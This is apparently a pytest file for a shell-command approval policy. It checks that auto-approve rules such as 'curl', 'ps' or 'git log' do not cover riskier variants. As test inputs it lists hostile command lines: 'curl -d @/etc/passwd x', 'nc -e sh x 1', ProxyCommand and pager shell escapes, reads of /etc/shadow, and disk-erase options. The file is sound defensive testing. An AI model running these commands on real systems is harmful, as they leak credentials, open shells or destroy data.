"""Rules that name less than their authors thought must not allow more than they named."""

from __future__ import annotations

import shlex

import pytest

from shannot.policy.profile import profile_of
from shannot.policy.verdict import Command, decide


def _decision(rule: str, *argv: str) -> str:
    profile = profile_of(auto_approve=[rule], confine=[])
    return decide(Command(argv, "/srv/example"), profile).decision


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("sudo find", "sudo find . -exec id ;"),
        ("sudo journalctl", "sudo journalctl --vacuum-time=1s"),
        ("nice -n 5 sort", "nice -n 5 sort -o x y"),
        ("sudo nice sort", "sudo nice sort --out=x y"),
        ("sudo env", "sudo env id"),
        ("timeout 5 env", "timeout 5 env id"),
    ],
)
def test_a_rule_of_a_wrapper_covers_no_more_than_one_of_the_wrapped_program(
    rule: str, line: str
) -> None:
    assert _decision(rule, *line.split()) == "ask"


def test_a_rule_of_a_wrapper_allows_what_the_wrapped_program_may_do() -> None:
    assert _decision("sudo systemctl status", "sudo", "systemctl", "status", "nginx") == "allow"
    assert _decision("timeout 5 ls", "timeout", "5", "ls", "-l") == "allow"


@pytest.mark.parametrize(
    ("rule", "line"),
    [("timeout 5", "timeout 5 id"), ("sudo -n", "sudo -n id"), ("nice -n 5", "nice -n 5 id")],
)
def test_a_rule_that_ends_before_the_wrapped_command_allows_none(rule: str, line: str) -> None:
    assert _decision(rule, *line.split()) == "ask"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("sed -n", "sed -n 1e f"),
        ("mysql -e", "mysql -e system"),
        ("sqlite3 -readonly", "sqlite3 -readonly f .shell"),
        ("tmux -V", "tmux -V new id"),
    ],
)
def test_a_rule_of_options_alone_does_not_cover_the_program_in_the_operands(
    rule: str, line: str
) -> None:
    assert _decision(rule, *line.split()) == "ask"
    assert _decision(rule, *rule.split()) == "allow"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("man ls", "man ls -P sh"),
        ("man ls", "man --pager=sh ls"),
        ("ping", "ping -f x"),
        ("dig", "dig -f /etc/hosts"),
        ("split", "split --filter=sh f"),
        ("rpm -qa", "rpm -qa --pipe sh"),
        ("go list", "go list -toolexec sh"),
        ("wget", "wget -O /etc/x y"),
        ("curl", "curl -d @/etc/passwd x"),
        ("tree", "tree -R -L 1 -H ."),
        ("apt list", "apt list -o Dir::Bin::dpkg=/tmp/x"),
        ("ssh-keygen -l", "ssh-keygen -l -D /tmp/x.so"),
        ("zip", "zip -T -TT sh a b"),
        ("ifconfig", "ifconfig eth0 10.0.0.1"),
        ("ip addr", "ip addr a 10.0.0.1 dev eth0"),
        ("ip route", "ip route fl all"),
    ],
)
def test_an_option_that_runs_or_changes_more_must_stand_in_the_rule(rule: str, line: str) -> None:
    assert _decision(rule, *line.split()) == "ask"


def test_showing_addresses_stays_allowed() -> None:
    assert _decision("ip addr", "ip", "addr", "show", "dev", "eth0") == "allow"
    assert _decision("ip addr show", "ip", "addr", "show", "eth0") == "allow"
    assert _decision("dig", "dig", "-x", "10.0.0.1") == "allow"
    assert _decision("ping", "ping", "-c", "1", "x") == "allow"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        *(("git status", "git status"), ("git log", "git log -1"), ("make -n", "make -n all")),
        *(("npm test", "npm test"), ("pytest -q", "pytest -q"), ("cargo build", "cargo build")),
        *(("sudo make install", "sudo make install"), ("go list", "go list ./...")),
        *(("python3 -m pytest", "python3 -m pytest"), ("bash build.sh", "bash build.sh")),
        *(("python3 -c 'print(1)'", "python3 -c print(1)"), ("node x.js", "node x.js")),
    ],
)
def test_what_a_directory_s_files_say_is_run_only_where_the_rule_names_the_directory(
    rule: str, line: str
) -> None:
    argv = ("python3", "-c", "print(1)") if "print" in line else tuple(line.split())
    assert _decision(rule, *argv) == "ask"
    here = profile_of(auto_approve=[{"command": rule, "cwd": "/srv/example"}], confine=[])
    assert decide(Command(argv, "/srv/example"), here).decision == "allow"
    assert decide(Command(argv, "/srv/other"), here).decision == "ask"


@pytest.mark.parametrize(
    "line",
    [
        *("git status -C /x", "git status --git-dir=/x", "git log -p --textconv", "git log ../x"),
        *("git diff --no-index a b", "git bisect run sh", "git submodule foreach id"),
        *("git rebase -x id", "git difftool --extcmd=id", "git status --git-di=x"),
        *("make all -f /x", "make all SHELL=/x", "make all --eval=x", "make all -Cx"),
        *("pytest -q /x", "pytest -q ../x", "pytest -q -p x", "pytest -q --rootd=/x"),
        *("npm test --prefix /x", "npm test --script-shell=x", "cargo build --config x"),
        *("cargo build --manifest-path=/x", "python3 -m pytest -q -c x"),
    ],
)  # fmt: skip
def test_a_rule_for_one_directory_does_not_lead_out_of_it(line: str) -> None:
    rules = ["git status", "git log", "git diff", "git bisect", "git submodule", "git rebase"]
    rules += ["git difftool", "make all", "pytest -q", "npm test", "cargo build"]
    profile = profile_of(
        auto_approve=[{"command": rule, "cwd": "/srv/example"} for rule in rules], confine=[]
    )
    assert decide(Command(tuple(line.split()), "/srv/example"), profile).decision == "ask"


def test_an_interpreter_of_a_named_file_may_be_allowed_and_by_its_name_alone_may_not() -> None:
    assert _decision("python3 /opt/check.py", "python3", "/opt/check.py", "-v") == "allow"
    assert _decision("python3 --version", "python3", "--version") == "allow"
    for argv in (("python3", "x.py"), ("perl", "x.pl"), ("node", "/opt/x.js")):
        assert _decision(argv[0], *argv) == "ask"
    assert _decision("python3 -m /x", "python3", "-m", "/x") == "ask"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        *(("tar -tf", "tar -tf evil:/x"), ("rsync -n", "rsync -n a evil:/x")),
        *(("ssh web1", "ssh web1 -oProxyCommand=sh"), ("scp a", "scp a b -S sh")),
        *(("hostnamectl status", "hostnamectl status -H evil"), ("ps", "ps -auxe")),
        *(("loginctl", "loginctl --host=evil"), ("systemctl status", "systemctl status -H evil")),
        *(("lspci", "lspci -q"), ("lspci", "lspci -F /etc/shadow"), ("dmesg", "dmesg -K /x")),
        *(("ps", "ps axeopid,cmd"), ("ps", "ps -ef -ux"), ("ps", "ps -C x -e -ux")),
        *(("sysctl", "sysctl kernel/../../../etc/hostname"), ("last", "last -d")),
        *(("sensors", "sensors -s"), ("gpg", "gpg --output=x y"), ("nc", "nc -e sh x 1")),
    ],
)
def test_a_word_that_reaches_further_must_stand_in_the_rule(rule: str, line: str) -> None:
    assert _decision(rule, *line.split()) == "ask"


@pytest.mark.parametrize(
    "line",
    ["ps", "ps aux", "ps -ef", "ps -eo pid,args", "ps auxww", "ps -p 1 -o comm", "ps -ef --f"],
)
def test_a_list_of_processes_without_their_environment_is_allowed(line: str) -> None:
    assert _decision("ps", *line.split()) == "allow"


@pytest.mark.parametrize(
    ("rule", "line"),
    [
        ("mysql -e 'show processlist'", r"mysql -e 'show processlist' -e '\! id'"),
        ("sqlite3 db .tables", "sqlite3 db .tables '.shell id'"),
        ("iptables -L", "iptables -L --modprobe=/tmp/x"),
        ("iptables -L", "iptables -L -Z"),
        ("nft list", "nft list -f /tmp/x"),
        ("nginx -t", "nginx -t -c /tmp/x"),
        ("sshd -t", "sshd -t -f /tmp/x"),
        ("apache2ctl configtest", "apache2ctl configtest -f /tmp/x"),
        ("hdparm -I", "hdparm -I /dev/sda --security-erase x"),
        ("smartctl -a", "smartctl -a /dev/sda -s off"),
        ("java -version", "java -version -jar x"),
        ("tshark -r x", "tshark -r x -X lua_script:x"),
        ("helm list", "helm list --kubeconfig x"),
        ("dpkg -l", "dpkg -l --status-logger=id"),
        ("fuser", "fuser -k 80/tcp"),
        *((name, f"{name} x") for name in ("dc", "m4", "Rscript", "gnuplot", "octave", "java")),
        *((name, f"{name} x") for name in ("bwrap", "ssh-agent", "gosu", "sg", "entr", "perf")),
    ],
)
def test_options_of_more_programs_that_run_or_change_something_are_not_covered(
    rule: str, line: str
) -> None:
    assert _decision(rule, *shlex.split(line)) != "allow"


@pytest.mark.parametrize(
    "line", ["nginx -t", "iptables -L -n -v", "java -version", "sshd -t", "dpkg -l x", "nft list"]
)
def test_the_words_of_such_a_rule_themselves_are_allowed(line: str) -> None:
    rule = " ".join(line.split()[:2])
    assert _decision(rule, *line.split()) == "allow"
